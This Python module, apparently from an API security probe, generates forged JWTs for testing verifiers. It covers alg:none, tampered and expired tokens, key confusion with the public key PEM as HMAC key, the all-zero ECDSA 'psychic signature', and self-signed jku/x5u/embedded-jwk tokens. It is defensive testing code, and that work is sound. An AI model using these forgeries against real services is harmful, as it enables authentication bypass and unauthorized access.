"""Forged bearer tokens (RFC 7519 JWTs), one per known way a verifier goes wrong.

The probe holds no signing key, so every token here must be refused; what each one tests
is which check refuses it. With a real token from `--identity`, the tampered, expired and
bad-signature tokens are that token edited (its real header, issuer and audience), so only
the edited part is wrong; without one they are built from the config's issuer. The
signature bytes are fixed, not random: the same plan every run.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import hmac
import json
import time
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

# jku / x5u point here: `.invalid` never resolves (RFC 2606), so no token makes a verifier
# (or the probe) contact a host the user did not name
KEY_ORIGIN = "https://apishield-probe.invalid"
JKU = f"{KEY_ORIGIN}/jwks.json"
X5U = f"{KEY_ORIGIN}/probe.pem"
PROBE_KID = "apishield-probe"
_EC_CURVES: dict[str, ec.EllipticCurve] = {"ES256": ec.SECP256R1(), "ES384": ec.SECP384R1(),
                                           "ES512": ec.SECP521R1()}
# r = s = 0 in the JWS encoding of each ECDSA algorithm (RFC 7518 3.4): 2 x 32/48/66 bytes
_ZERO_SIGNATURE = {"ES256": 64, "ES384": 96, "ES512": 132}
_SEED = b"apishield probe: a key anyone may know"

_FAKE_SIGNATURE = hashlib.sha256(b"apishield probe: not a signature").digest() * 8  # 256 bytes


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _part(value: dict[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode())


def decode_jwt(token: str) -> tuple[dict[str, Any], dict[str, Any], str] | None:
    """(header, claims, signature) of a compact JWS, or None when `token` is not one."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = (json.loads(base64.urlsafe_b64decode(p + "=" * (-len(p) % 4)))
                          for p in parts[:2])
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return header, claims, parts[2]


def forged_tokens(real: str | None, issuer: str | None, audience: str | None,
                  algorithm: str, now: float | None = None) -> dict[str, tuple[str, str]]:
    """rule id -> (what the token is, the token)."""
    now = int(time.time() if now is None else now)
    header, claims, signature = _base(real, issuer, audience, algorithm, now)
    algorithm = str(header.get("alg", algorithm))
    wrong = b64url(_FAKE_SIGNATURE[:max(len(base64.urlsafe_b64decode(
        signature + "=" * (-len(signature) % 4))), 32)])
    if wrong == signature:
        wrong = wrong[::-1]
    expired = {**claims, "iat": now - 7200, "exp": now - 3600}
    tampered = {**claims, "sub": "apishield-probe-admin", "roles": ["admin"],
                "scope": "admin"}
    unknown_kid = {**header, "kid": "apishield-probe-unknown-kid"}
    none_header = {"alg": "none", "typ": "JWT"}
    return {
        "probe-jwt-alg-none": ("an unsigned token (alg: none)",
                               f"{_part(none_header)}.{_part(claims)}."),
        "probe-jwt-expired": ("a token that expired an hour ago",
                              f"{_part(header)}.{_part(expired)}.{signature}"),
        "probe-jwt-bad-signature": ("a token with a wrong signature",
                                    f"{_part(header)}.{_part(claims)}.{wrong}"),
        "probe-jwt-tampered": ("a token whose subject and roles were edited after signing",
                               f"{_part(header)}.{_part(tampered)}.{signature}"),
        "probe-jwt-unknown-kid": ("a token naming a key id the issuer never published",
                                  f"{_part(unknown_kid)}.{_part(claims)}.{wrong}"),
    }


def _base(real: str | None, issuer: str | None, audience: str | None, algorithm: str,
          now: int) -> tuple[dict[str, Any], dict[str, Any], str]:
    """(header, claims, signature) to forge from: the real token's, or made up from the
    config's issuer."""
    decoded = decode_jwt(real) if real else None
    if decoded is not None:
        return decoded
    claims: dict[str, Any] = {"sub": "apishield-probe", "iat": now, "exp": now + 300}
    if issuer:
        claims["iss"] = issuer
    if audience:
        claims["aud"] = audience
    return ({"alg": algorithm, "typ": "JWT"}, claims,
            b64url(_FAKE_SIGNATURE[:64 if algorithm.startswith("ES") else 256]))


@functools.cache
def probe_key(algorithm: str) -> Any:
    """The probe's own signing key for a token claiming `algorithm`'s family: EC and
    Ed25519 keys are derived from a fixed seed (the same key every run); an RSA key can
    not be derived with `cryptography`, so one is generated once per process. The tokens
    never appear in a report, so the report is the same run to run either way (only the
    signatures, never shown, differ)."""
    if algorithm in _EC_CURVES:
        curve = _EC_CURVES[algorithm]
        order = {"secp256r1": 2**256, "secp384r1": 2**384, "secp521r1": 2**520}[curve.name]
        secret = int.from_bytes(hashlib.sha512(_SEED + algorithm.encode()).digest(), "big")
        return ec.derive_private_key(secret % (order // 2) + 1, curve)
    if algorithm == "EdDSA":
        return ed25519.Ed25519PrivateKey.from_private_bytes(hashlib.sha256(_SEED).digest())
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def probe_jwk(algorithm: str) -> dict[str, Any]:
    """The public JWK of `probe_key(algorithm)`."""
    public = probe_key(algorithm).public_key()
    jwk: dict[str, Any]
    if isinstance(public, rsa.RSAPublicKey):
        jwk = dict(jwt.algorithms.RSAAlgorithm.to_jwk(public, as_dict=True))
    elif isinstance(public, ec.EllipticCurvePublicKey):
        jwk = dict(jwt.algorithms.ECAlgorithm.to_jwk(public, as_dict=True))
    else:
        jwk = dict(jwt.algorithms.OKPAlgorithm.to_jwk(public, as_dict=True))
    return {**jwk, "kid": PROBE_KID, "use": "sig"}


def _self_signing_alg(algorithm: str) -> str:
    """The algorithm the probe signs its own tokens with: the family the issuer uses
    (a verifier that takes the key from the token still checks the algorithm list)."""
    if algorithm in _EC_CURVES or algorithm == "EdDSA":
        return algorithm
    if algorithm.startswith(("RS", "PS")):
        return algorithm
    return "ES256"  # HS* or unknown: the issuer has no public-key family to match


def _signed(header: dict[str, Any], claims: dict[str, Any], algorithm: str) -> str:
    payload = json.dumps(claims, separators=(",", ":")).encode()
    extra = {k: v for k, v in header.items() if k not in ("alg",)}
    return jwt.api_jws.PyJWS().encode(payload, probe_key(algorithm), algorithm=algorithm,
                                      headers=extra, sort_headers=False)


def key_confusion_tokens(real: str | None, issuer: str | None, audience: str | None,
                         algorithm: str, keys: list[tuple[str | None, bytes]],
                         now: float | None = None) -> list[tuple[str, str]]:
    """HS256 tokens whose HMAC key is the issuer's public key as PEM text (RFC 8725 2.1;
    CVE-2016-10555): a verifier that takes the algorithm from the token and the key from
    its store computes the same MAC. One per key (`keys`: kid, PEM bytes); with a real
    token naming a kid, only that key's."""
    header, claims, _signature = _base(real, issuer, audience, algorithm,
                                       int(time.time() if now is None else now))
    wanted = header.get("kid")
    chosen = [(kid, pem) for kid, pem in keys if kid == wanted] or keys
    out: list[tuple[str, str]] = []
    for kid, pem in chosen:
        forged: dict[str, Any] = {"alg": "HS256", "typ": "JWT"}
        if kid is not None:
            forged["kid"] = kid
        signing_input = f"{_part(forged)}.{_part(claims)}"
        mac = hmac.new(pem, signing_input.encode(), hashlib.sha256).digest()
        label = f" (kid {kid})" if kid is not None else ""
        out.append((f"an HS256 token keyed with the issuer's public key PEM{label}",
                    f"{signing_input}.{b64url(mac)}"))
    return out


def attack_tokens(real: str | None, issuer: str | None, audience: str | None,
                  algorithm: str, algorithms: tuple[str, ...] = (),
                  now: float | None = None) -> dict[str, tuple[str, str]]:
    """rule id -> (what, token) for the attacks that need no issuer key: the psychic
    signature (CVE-2022-21449) and tokens signed by the probe's own key, which their
    header names (`jku`, `x5u`, embedded `jwk`; RFC 7515 4.1.2, 4.1.5, 4.1.3)."""
    header, claims, _signature = _base(real, issuer, audience, algorithm,
                                       int(time.time() if now is None else now))
    algorithm = str(header.get("alg", algorithm))
    ecdsa = next((a for a in (algorithm, *algorithms) if a in _ZERO_SIGNATURE), "ES256")
    psychic: dict[str, Any] = {"alg": ecdsa, "typ": "JWT"}
    if "kid" in header:
        psychic["kid"] = header["kid"]
    zero = b64url(bytes(_ZERO_SIGNATURE[ecdsa]))
    own = _self_signing_alg(algorithm)
    base = {"alg": own, "typ": "JWT"}
    return {
        "probe-jwt-psychic-signature": (
            f"an {ecdsa} token with the all-zero signature r = s = 0",
            f"{_part(psychic)}.{_part(claims)}.{zero}"),
        "probe-jwt-jku": (
            f"a token signed by the probe's own key, its jku naming {JKU}",
            _signed({**base, "kid": PROBE_KID, "jku": JKU}, claims, own)),
        "probe-jwt-x5u": (
            f"a token signed by the probe's own key, its x5u naming {X5U}",
            _signed({**base, "x5u": X5U}, claims, own)),
        "probe-jwt-embedded-jwk": (
            "a token signed by the probe's own key, embedded in its header (jwk)",
            _signed({**base, "jwk": probe_jwk(own)}, claims, own)),
    }
